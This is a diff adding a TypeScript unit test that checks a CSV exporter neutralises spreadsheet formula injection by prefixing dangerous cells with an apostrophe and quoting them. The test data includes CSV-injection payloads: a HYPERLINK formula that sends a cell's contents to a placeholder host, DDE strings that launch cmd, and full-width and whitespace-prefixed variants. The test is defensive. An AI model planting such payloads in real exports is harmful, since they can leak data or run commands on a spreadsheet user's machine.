@@ -76,4 +76,30 @@ describe('CSV export', () => {
     expect(b).toMatchObject({ status: 'pending', destinationTxHash: '', latencySeconds: '' });
     expect(c).toMatchObject({ status: 'relaying', from: 'a, "quoted" sender' });
   });
+
+  it('neutralises cells a spreadsheet would run as formulas with a leading apostrophe, quoted; numbers stay numbers', () => {
+    const hostile = (n: number, from: string, symbol: string) => {
+      const raw = rawMessage({ n, from, latency: 45 });
+      (raw.rewardDetails as { symbol: string }).symbol = symbol;
+      return parseMessage(raw)!;
+    };
+    const cells: [string, string][] = [
+      ['=HYPERLINK("http://x.invalid/?"&A1,"fee")', "+1+cmd|' /C calc'!A0"],
+      ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
+      ['\t=1+1', '\r=1+1'],
+      ['=1+1\nsecond line', '＝1+1'],
+      ['＋1', '－1+1'],
+      ['＠SUM(A1)', 'WAVAX'],
+    ];
+    const csv = messagesToCsv(cells.map(([from, symbol], i) => hostile(i + 1, from, symbol)));
+    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
+    expect(rows.map((r) => [r.from, r.rewardSymbol])).toEqual(cells.map((pair) => pair.map((v) => (v === 'WAVAX' ? v : `'${v}`))));
+    // Each such cell is quoted in the file, so the apostrophe is part of the text.
+    expect(csv).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""fee"")"`);
+    expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
+    // The number column stays a number; a text cell that is only a decimal number (it cannot run) is left as it is.
+    expect(rows.every((r) => r.latencySeconds === '45')).toBe(true);
+    const plain = messagesToCsv([hostile(9, '-5', '+1.5')]);
+    expect(Papa.parse<Record<string, string>>(plain, { header: true }).data[0]).toMatchObject({ from: '-5', rewardSymbol: '+1.5' });
+  });
 });
